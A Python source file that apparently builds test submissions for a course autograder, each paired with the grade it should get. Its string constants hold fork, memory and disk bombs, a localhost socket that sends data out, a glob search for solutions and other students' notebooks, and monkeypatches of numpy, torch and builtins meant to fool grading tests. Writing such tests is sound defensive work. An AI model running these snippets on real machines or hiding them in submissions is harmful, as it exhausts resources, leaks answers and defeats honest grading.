"""Build a red-team class: submissions that attack the grader, each with the grade it must get.

Every student is the correct notebook (the released notebook with the solution's code typed) with
one attack, so a student who is not stopped would score full marks. Most attacks open the LAST
solution cell, so the tests before it must keep their points and the ones after it are what the
attack costs. The class also holds two honest students, who must get full marks whatever their
neighbours do, and entries that are broken as files rather than as code.

Usage: ``python -m grader.examples.make_red_team [ASSIGNMENT] [--out ZIP] [--port PORT]``
(``--port``: where the network attack looks for a server on 127.0.0.1; the CI test runs one there
and checks that nothing ever connects).
"""

from __future__ import annotations

import argparse
import copy
import io
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

if __package__ in (None, ""):  # run as a script: make the repository importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from grader import notebooks as nbs  # noqa: E402
from grader.assignments import find_root  # noqa: E402
from grader.examples.make_sample_class import DEFAULT_ASSIGNMENT, _released  # noqa: E402

DEFAULT_PORT = 8765


@dataclass(frozen=True)
class Expected:
    """The grade an attack must get.

    score:  "full", "zero", "before" (exactly the points of the tests above the attacked cell: the
            kernel is gone), "between" (at least "before", less than full: the kernel lives on), or
            "before or full" (stopped there, or not stopped at all).
    status: the allowed statuses in grades.csv, separated by "|".
    reason: a regular expression the reason must match ("" : the reason must be empty).
    """

    score: str
    status: str
    reason: str
    tampered: bool = False


# --- attacks on the machine: prepended to the last solution cell ----------------------------------
MEMORY_BOMB = "hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))  # 64 MiB, touched\n"
FORK_BOMB = "import os\nwhile True:\n    os.fork()\n"
DISK_FILLER = ("import itertools\nfor number in itertools.count():\n"
               "    with open(f'fill{number}.bin', 'wb') as handle:\n        handle.write(bytes(32 << 20))\n")
HUGE_FILE = "with open('huge.bin', 'wb') as handle:\n    while True:\n        handle.write(bytes(16 << 20))\n"
OUTPUT_FLOOD = "for _ in range(1024):\n    print('x' * (1 << 20))  # 1 GiB in all\n"
DEEP_RECURSION = ("import sys\nsys.setrecursionlimit(10**9)\n\ndef down(depth):\n    return down(depth + 1)\n\n"
                  "down(0)\n")
OS_EXIT = "import os\nos._exit(0)\n"
SYS_EXIT = "import sys\nsys.exit(0)\n"
IGNORE_INTERRUPT = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
NETWORK = ("import socket\nleak = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
           "leak.sendall(b'the answers, please')\n")
SNOOP = '''import glob, os, pathlib
import nlpcourse
course = pathlib.Path(nlpcourse.__file__).resolve().parents[1]
patterns = ["../../solutions/*", "../../../solutions/*", "../*/*.ipynb", "../../*/*.ipynb",
            "../../submitted/*", "../../../submitted/*", "**/gradebook.db", "/tmp/**/gradebook.db",
            "/tmp/**/submitted/**/*.ipynb", "/tmp/**/runs/*.ipynb", "/tmp/course-sandboxes/*/input.ipynb",
            os.path.expanduser("~/../*"),
            f"{course}/solutions/*", f"{course}/grading/*/gradebook.db", f"{course}/build/demo/*/submitted/*",
            f"{course}/grader/mistakes/*", f"{course}/.git/objects/*"]
own = os.path.realpath(os.environ["HOME"])  # this submission's own folder: its notebook is there
found = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)
         if not os.path.realpath(path).startswith(own)]
try:
    (course / "nlpcourse" / "__init__.py").open("a").close()
    found.append("the course package is writable")
except OSError:
    pass
assert not found, f"found what a submission must never see: {found[:5]}"
'''

# --- cheating on the tests: the stub with the test helpers replaced -------------------------------
PATCH_NUMPY = ("import numpy as np\nnp.testing.assert_allclose = lambda *args, **kwargs: None\n"
               "np.testing.assert_array_equal = lambda *args, **kwargs: None\nnp.allclose = lambda *args, **kwargs: True\n")
PATCH_TORCH = "import torch\ntorch.allclose = lambda *args, **kwargs: True\n"
PATCH_BUILTINS = ("import builtins\nbuiltins.abs = lambda x: 0  # assert abs(got - want) < 1e-9 always holds\n"
                  "builtins.all = lambda iterable: True\n")

EXPECTED: dict[str, Expected] = {
    "honest_a": Expected("full", "ok", ""),
    "honest_b": Expected("full", "ok", ""),
    "memory_bomb": Expected("before", "crashed", "of memory and was stopped"),
    # stopped by the process watch, unless the copies (sharing the kernel's sockets) kill the kernel first
    "fork_bomb": Expected("before", "crashed", "processes and was stopped|the kernel died during"),
    "disk_filler": Expected("before", "crashed", "to disk and was stopped"),
    "huge_file": Expected("between", "ok", "failed: "),
    # the kernel buffers what the grader has not read yet: that buffer may reach the memory limit first
    "output_flood": Expected("before or full", "ok|crashed", "MiB of output; what came after the first|of memory"),
    # Python 3.11 keeps Python frames on the heap: the recursion ends at the memory limit or the C stack
    "deep_recursion": Expected("before", "crashed", "the kernel died during|of memory and was stopped"),
    "os_exit": Expected("before", "crashed", "the kernel died during"),
    "sys_exit": Expected("between", "ok", "failed: "),
    "ignore_interrupt": Expected("before", "timeout", "ignored the interrupt"),
    "network": Expected("between", "ok", "failed: "),
    "snoop": Expected("full", "ok", ""),
    "patch_numpy": Expected("zero", "tampered", "monkeypatched numpy", tampered=True),
    "patch_torch": Expected("zero", "tampered", "monkeypatched torch.allclose", tampered=True),
    "patch_builtins": Expected("zero", "tampered", "monkeypatched builtins", tampered=True),
    "deleted_test": Expected("full", "tampered", "deleted", tampered=True),
    "duplicated_test": Expected("full", "ok", ""),
    "retyped_test": Expected("full", "tampered", "cell type changed", tampered=True),
    "reordered_tests": Expected("full", "tampered", "moved", tampered=True),
    "invalid_json": Expected("zero", "error", "invalid JSON"),
    "wrong_nbformat": Expected("zero", "error", "nbformat 3"),
    "empty_entry": Expected("zero", "error", "the file is empty"),
}
WRONG_NAME = "wrong_name"  # a notebook named after no assignment: `course collect` reports it, no grade


def _prepend(nb: nbformat.NotebookNode, name: str, code: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if nbs.grade_id(cell) == name:
            cell.source = code + "\n" + cell.source
    return nb


def _cells(nb: nbformat.NotebookNode, change: Callable[[list], list]) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = change(nb.cells)
    return nb


def _retype(cells: list, name: str) -> list:
    for cell in cells:
        if nbs.grade_id(cell) == name:
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return cells


def _duplicate(cells: list, name: str) -> list:
    """The cell ``name`` twice in a row, as a copy-paste in JupyterLab leaves it (the copy has its own id)."""
    out = []
    for cell in cells:
        out.append(cell)
        if nbs.grade_id(cell) == name:
            twin = copy.deepcopy(cell)
            twin["id"] = f"{cell.get('id', name)}-copy"
            out.append(twin)
    return out


def _move_to_end(cells: list, name: str) -> list:
    return [c for c in cells if nbs.grade_id(c) != name] + [c for c in cells if nbs.grade_id(c) == name]


def red_team_class(assignment: str, course_root: Path | None = None, port: int = DEFAULT_PORT) -> dict[str, bytes]:
    """``student -> submitted file bytes`` for every student of :data:`EXPECTED` plus :data:`WRONG_NAME`."""
    root = course_root or find_root()
    source = nbs.read_notebook(root / "solutions" / assignment / f"{assignment}.ipynb")
    released = _released(assignment, root)
    solutions = nbs.solution_cell_ids(released)
    tests = list(nbs.test_cells(released))
    correct = nbs.solved_notebook(released, source)
    last = solutions[-1]
    code = {"memory_bomb": MEMORY_BOMB, "fork_bomb": FORK_BOMB, "disk_filler": DISK_FILLER, "huge_file": HUGE_FILE,
            "output_flood": OUTPUT_FLOOD, "deep_recursion": DEEP_RECURSION, "os_exit": OS_EXIT, "sys_exit": SYS_EXIT,
            "ignore_interrupt": IGNORE_INTERRUPT, "network": NETWORK.format(port=port), "snoop": SNOOP}
    notebooks = {name: _prepend(correct, last, attack) for name, attack in code.items()}
    notebooks |= {name: _prepend(released, solutions[0], patch) for name, patch in
                  {"patch_numpy": PATCH_NUMPY, "patch_torch": PATCH_TORCH, "patch_builtins": PATCH_BUILTINS}.items()}
    notebooks |= {
        "honest_a": correct,
        "honest_b": correct,
        "deleted_test": _cells(correct, lambda cells: [c for c in cells if nbs.grade_id(c) != tests[-1]]),
        "duplicated_test": _cells(correct, lambda cells: _duplicate(cells, tests[0])),
        "retyped_test": _cells(correct, lambda cells: _retype(cells, tests[0])),
        # the first test moved to the very end: it still passes there, but its place was changed
        "reordered_tests": _cells(correct, lambda cells: _move_to_end(cells, tests[0])),
        WRONG_NAME: correct,
    }
    files = {name: nbformat.writes(nb).encode() for name, nb in notebooks.items()}
    text = files["honest_a"].decode()
    files["invalid_json"] = text[: len(text) // 3].encode()
    files["wrong_nbformat"] = nbformat.writes(correct, version=3).encode()  # valid, in the format of 2014
    files["empty_entry"] = b""
    return files


def write_zip(assignment: str, out: Path, course_root: Path | None = None, port: int = DEFAULT_PORT) -> Path:
    """Pack the red-team class like an LMS export (``<student>_<A>.ipynb``); the wrong name as ``homework.ipynb``."""
    files = red_team_class(assignment, course_root, port)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for student, data in sorted(files.items()):
            name = f"{WRONG_NAME}/homework.ipynb" if student == WRONG_NAME else f"{student}_{assignment}.ipynb"
            archive.writestr(f"submissions/{name}", data)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_bytes(buffer.getvalue())
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Build the red-team class (LMS-style zip) for an assignment.")
    parser.add_argument("assignment", nargs="?", default=DEFAULT_ASSIGNMENT)
    parser.add_argument("--out", type=Path, default=None, help="zip to write (default: build/red_team_<A>.zip)")
    parser.add_argument("--port", type=int, default=DEFAULT_PORT, help="port of the network attack's target")
    args = parser.parse_args(argv)
    root = find_root()
    out = args.out or root / "build" / f"red_team_{args.assignment}.zip"
    write_zip(args.assignment, out, root, args.port)
    print(f"wrote {out}")
    for student, expected in EXPECTED.items():
        print(f"  {student:<17} {expected.score:<14} {expected.status:<9} {expected.reason}")
    print(f"  {WRONG_NAME:<17} not collected (reported by `course collect`)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
